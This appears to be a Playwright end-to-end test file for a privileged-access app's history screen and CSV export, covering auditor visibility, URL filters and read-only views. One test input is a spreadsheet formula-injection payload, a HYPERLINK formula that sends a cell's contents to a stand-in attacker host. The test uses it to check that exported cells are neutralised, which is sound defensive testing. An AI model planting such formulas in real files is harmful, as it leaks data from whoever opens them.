import type { APIRequestContext, Page } from '@playwright/test';
import { readCsv } from '#e2e/fixtures/csv.ts';
import { expect } from '#e2e/fixtures/expect.ts';
import { screenRows } from '#e2e/fixtures/history-screen.ts';
import { test } from '#e2e/fixtures/people.ts';

const formula = '=HYPERLINK("https://evil.example/?"&A1,"open me"), "quoted"';

test.describe.configure({ mode: 'serial' });
test.beforeAll(({ tenant }) => tenant.reset());

async function exported(door: APIRequestContext, query = ''): Promise<Record<string, string>[]> {
  const answer = await door.get(`/api/exports/history${query}`);
  expect(answer.status()).toBe(200);
  expect(answer.headers()['content-type']).toBe('text/csv; charset=utf-8');
  return readCsv(await answer.text());
}

async function filters(page: Page, by: Record<string, string>): Promise<void> {
  for (const [label, text] of Object.entries(by)) {
    const field = page.getByLabel(label);
    if ((await field.evaluate((node) => node.tagName)) === 'SELECT') await field.selectOption(text);
    else await field.fill(text);
  }
  await page.getByRole('button', { name: 'Filter' }).click();
}

test('the auditor sees everybody’s rows, and the export equals the screen row by row', async ({
  ada,
  auden,
  bo,
  comes,
  cy,
}) => {
  await ada.activates(['Contributor, Staging'], { justification: formula, minutes: 30 });
  await ada.sees('Active now', 'Contributor, Staging');
  await ada.page.reload();
  await ada.activates(['Helpdesk Administrator, Directory'], {
    justification: 'Two lines:\nand "quotes", commas; semicolons',
    ticket: '-2+3',
    minutes: 45,
  });
  await ada.sees('Active now', 'Helpdesk Administrator, Directory');
  const hanna = await comes('hanna.berg');
  const cluster = 'Azure Kubernetes Service RBAC Cluster Admin';
  await hanna.activates([`${cluster}, aks-core`], { justification: 'Restart the ingress', minutes: 30 });
  await bo.denies(`Hanna Berg: ${cluster} on aks-core`, '@everyone reads this');
  await hanna.seesNoMore('Pending', `${cluster}, aks-core`);
  await expect(cy.card(`Hanna Berg: ${cluster} on aks-core`)).toHaveCount(0);

  const screen = await screenRows(auden.page);
  const file = await exported(auden.context.request);
  expect(screen.map(({ path }) => path)).toEqual(file.map(({ request }) => `/requests/${request}`));
  expect(file.map(({ person }) => person)).toEqual(expect.arrayContaining(['Ada Lind', 'Hanna Berg']));
  for (const [at, row] of file.entries()) {
    expect(screen[at]?.filedAt).toBe(row.filed_at);
    const shown = screen[at]?.text.toLowerCase();
    const who = [row.person, row.approver, row.decision, row.decision_justification];
    const what = [row.plane, row.role, row.scope, row.status, row.ticket, row.justification];
    for (const fact of [...who, ...what]) expect(shown).toContain(asShown(fact));
  }
});

/** A cell as the screen has it: without the mark that defuses formulas. */
function asShown(cell = ''): string {
  return cell.replace(/^'/, '').replaceAll(/\s+/g, ' ').toLowerCase();
}

test('no cell of the export is a formula to a spreadsheet', async ({ auden }) => {
  const file = await exported(auden.context.request);
  const row = file.find(({ justification = '' }) => justification.includes('HYPERLINK'));
  expect(row?.justification).toBe(`'${formula}`);
  expect(file.find(({ ticket = '' }) => ticket.includes('2+3'))?.ticket).toBe("'-2+3");
  expect(file.find(({ decision_justification: why = '' }) => why.includes('@everyone'))).toBeDefined();
  const cells = file.flatMap((one) => Object.values(one));
  expect(cells.filter((cell) => /^\s*[=+\-@\t\r]/.test(cell))).toEqual([]);
});

test('filters are in the URL, and screen and export follow them alike', async ({ auden }) => {
  await filters(auden.page, { Person: 'hanna', 'Role or scope': 'aks', Plane: 'azure', State: 'denied' });
  await auden.page.waitForURL(/\/history\?/);
  const { search, searchParams } = new URL(auden.page.url());
  expect(Object.fromEntries(searchParams)).toMatchObject({
    person: 'hanna',
    role: 'aks',
    plane: 'azure',
    status: 'denied',
  });
  await expect(auden.page.getByLabel('Person')).toHaveValue('hanna');
  const screen = await screenRows(auden.page, search);
  const file = await exported(auden.context.request, search);
  expect(screen.map(({ path }) => path)).toEqual(file.map(({ request }) => `/requests/${request}`));
  expect(new Set(file.map(({ person, status }) => `${person} ${status}`))).toEqual(
    new Set(['Hanna Berg Denied']),
  );

  await auden.page.getByRole('link', { name: 'Clear' }).click();
  await auden.page.waitForURL(/\/history$/);
  await filters(auden.page, { 'Role or scope': '100%_nothing' });
  await expect(auden.page.getByText('Nothing matches')).toBeVisible();
});

test('others see and export their own rows only, and no trace of who exported', async ({ ada }) => {
  const own = await screenRows(ada.page);
  const file = await exported(ada.context.request);
  expect(own.map(({ path }) => path)).toEqual(file.map(({ request }) => `/requests/${request}`));
  expect(new Set(file.map(({ person }) => person))).toEqual(new Set(['Ada Lind']));
  await expect(ada.page.getByLabel('Person')).toHaveCount(0);
  expect(await exported(ada.context.request, '?person=Hanna')).toEqual([]);
  for (const { path } of own.slice(0, 2)) {
    await ada.visits(path);
    await expect(ada.page.getByRole('main')).not.toContainText(/Auden|export/i);
  }
});

test('an auditor reads anybody’s story and can change nothing in it', async ({ auden }) => {
  const [row] = await screenRows(auden.page, '?person=Ada&status=active');
  await auden.visits(row?.path ?? '');
  await expect(auden.moment(/Ada Lind\s*asked for/)).toBeVisible();
  for (const name of ['Cancel', 'End now', 'Resume', 'Approve', 'Deny']) {
    await expect(auden.page.getByRole('button', { name })).toHaveCount(0);
  }
  await expect(auden.page.getByRole('link', { name: 'Ask again' })).toHaveCount(0);
});
